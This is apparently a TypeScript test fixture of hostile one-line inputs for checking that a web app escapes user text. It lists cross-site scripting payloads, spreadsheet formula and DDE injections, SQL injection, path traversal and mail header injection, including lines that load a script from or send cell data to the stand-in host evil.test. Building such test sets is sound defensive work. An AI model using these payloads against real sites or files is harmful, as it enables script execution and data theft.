/**
 * Texts with which people try to run something in another's browser, mail program or spreadsheet. Each would call `hit`,
 * which the browser story watches. One line of at most 120 characters each, so that every field of a person takes them.
 */
export const hostileLines: readonly string[] = [
  // Scripts.
  '<script>hit()</script>',
  '<SCRIPT SRC=//evil.test/a.js></SCRIPT>',
  '</script><script>hit()</script>',
  '<script/x>hit()</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</style><script>hit()</script>',
  '--><script>hit()</script><!--',
  '<script type=module>hit()</script>',
  // Handlers.
  '<img src=x onerror=hit()>',
  '<img src=x onerror=\'hit()\' alt="a">',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>a</details>',
  '<input autofocus onfocus=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<div onpointerrawupdate=hit() style=position:fixed;inset:0>a</div>',
  '<p onclick=hit() tabindex=0 autofocus>a</p>',
  '" onmouseover="hit()" autofocus onfocus="hit()" x="',
  "' onfocus='hit()' autofocus x='",
  '<marquee onstart=hit()>a</marquee>',
  '<img/src=x/onerror=hit()>',
  '<img src=x onerror="&#104;it()">',
  '<button popovertarget=a onbeforetoggle=hit()>a</button><p popover id=a>b</p>',
  // Links.
  '<a href="javascript:hit()">katt</a>',
  '<a href="java\\nscript:hit()">katt</a>',
  '<a href=" &#14; javascript:hit()">katt</a>',
  '<a href="JaVaScRiPt:hit()">katt</a>',
  '<a href="javascript&colon;hit()">katt</a>',
  '<a href="data:text/html,<script>hit()</script>">katt</a>',
  '<a href="vbscript:hit()">katt</a>',
  '<form action="javascript:hit()"><button>katt</button></form>',
  '<button form=f formaction="javascript:hit()">katt</button>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  'javascript:hit()',
  // Drawings.
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hit()"><text y=20>katt</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()/>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>',
  '<math><mtext></p><img src=x onerror=hit()></mtext></math>',
  '<math href="javascript:hit()">katt</math>',
  // Broken markup.
  '<img src=x onerror=hit()',
  '<<img src=x onerror=hit()>',
  '<img src="x""onerror=hit()>',
  "<a href='x' <b>vége",
  '<!--<img src="--><img src=x onerror=hit()//">',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml version="1.0"?><img src=x onerror=hit()>',
  '<p><b>nyitva<i>marad',
  '</p></div></body></html>',
  // Mutation.
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<template><img src=x onerror=hit()></template>',
  '<select><template shadowrootmode=open><img src=x onerror=hit()></template></select>',
  '<xmp><p title="</xmp><img src=x onerror=hit()>">',
  '<table><td><svg><desc><td><img src=x onerror=hit()>',
  // Entities.
  '&lt;img src=x onerror=hit()&gt;',
  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '%3Cscript%3Ehit()%3C/script%3E',
  // Placeholders.
  '{url} {name} {message}',
  '%7Burl%7D',
  "{{constructor.constructor('hit()')()}}",
  '\x24{hit()}',
  '<%= hit() %>',
  "$& $1 $` $'",
  // Formulas.
  '=HYPERLINK("https://evil.test/?"&A1,"katt")',
  "=cmd|' /C calc'!A0",
  '+1+hit()',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '"; =1+1; "',
  // Structured data.
  '"}</script><script>hit()</script>{"a":"',
  '","@type":"Person","name":"',
  '<!--<script>',
  ']]></script><img src=x onerror=hit()>',
  // Statements and paths.
  "'; drop table services; --",
  "' or '1'='1",
  '../../../../etc/passwd',
  '__proto__',
  // Headers.
  'Kovács <masik@evil.test>, Bcc: masik@evil.test',
  'a@pelda.test\\r\\nBcc: masik@evil.test',
  '=?utf-8?q?Bcc=3A_masik=40evil.test?=',
];

/** The same with line breaks and control characters: fields of one line refuse them, longer texts take them. */
export const hostileBreaks: readonly string[] = [
  'Éva\r\nBcc: masik@evil.test',
  'Éva\nSubject: más\n\n<script>hit()</script>',
  'Éva\u2028Bcc: masik@evil.test',
  'Éva\u0000<img src=x onerror=hit()>',
  '\u202e<script>hit()</script>',
];

/** Ordinary formatting, which has to survive beside all of them. */
export const ordinaryHtml =
  '<p>Tiszta munka, <strong>garanciával</strong>.</p><ul><li>egy</li></ul><p><a href="https://pelda.test/">oldalunk</a></p>';

/**
 * The elements of a document with the names of their attributes, in their order: a text that is escaped changes none of
 * them.
 */
export const getSkeleton = (html: string): string[] =>
  [...html.matchAll(/<(\/?[a-z!?][^\s>/]*)([^>]*)>/gi)].map(([, name = '', attributes = '']) =>
    [
      name,
      ...[...attributes.matchAll(/([^\s=/"']+)\s*(?:=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?/g)].map(
        ([, one]) => one,
      ),
    ]
      .join(' ')
      .toLowerCase(),
  );
